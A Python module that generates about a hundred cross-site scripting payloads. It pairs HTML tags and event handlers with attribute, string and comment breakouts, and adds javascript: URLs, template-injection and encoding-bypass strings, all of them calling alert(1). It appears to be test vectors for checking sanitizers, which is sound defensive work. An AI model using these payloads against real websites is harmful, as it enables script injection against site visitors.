"""A hundred ways to smuggle a script into a page, each of which calls `alert` if it is taken for markup anywhere."""

# Elements whose start or failure to load runs a handler.
_HANDLERS = {
    "img": "src=x onerror", "svg": "onload", "body": "onload", "video": "src=x onerror", "audio": "src=x onerror",
    "input": "autofocus onfocus", "select": "autofocus onfocus", "textarea": "autofocus onfocus",
    "details": "open ontoggle", "marquee": "onstart", "iframe": "onload", "object": "data=x onerror",
    "embed": "src=x onerror", "link": "rel=stylesheet href=x onerror", "style": "onload", "script": "src=x onerror",
    "button": "autofocus onfocus", "a": "href=x autofocus onfocus", "div": "style=animation-name:x onanimationstart",
    "math": "onclick",
}  # fmt: skip
# What comes before, so that the text leaves an attribute, a string, a comment or an element first.
_BREAKOUTS = ("", '">', "'>", "--></title></textarea></script>")
_OTHERS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</ScRiPt>", "<script/src=data:,alert(1)>",
    "</script><script>alert(1)", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=javascript:alert(1)><button>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>", "<svg><script>alert(1)</script>", "<svg><animate onbegin=alert(1) dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "&lt;img src=x onerror=alert(1)&gt;", "\\u003cimg src=x onerror=alert(1)\\u003e", "<img src=x onerror=alert`1`>",
    "x\u2028<script>alert(1)</script>\u2029x", "javascript:alert(1)",
]  # fmt: skip

PAYLOADS = [
    *(f"{out}<{tag} {handler}=alert(1)>" for out in _BREAKOUTS for tag, handler in _HANDLERS.items()),
    *_OTHERS,
]
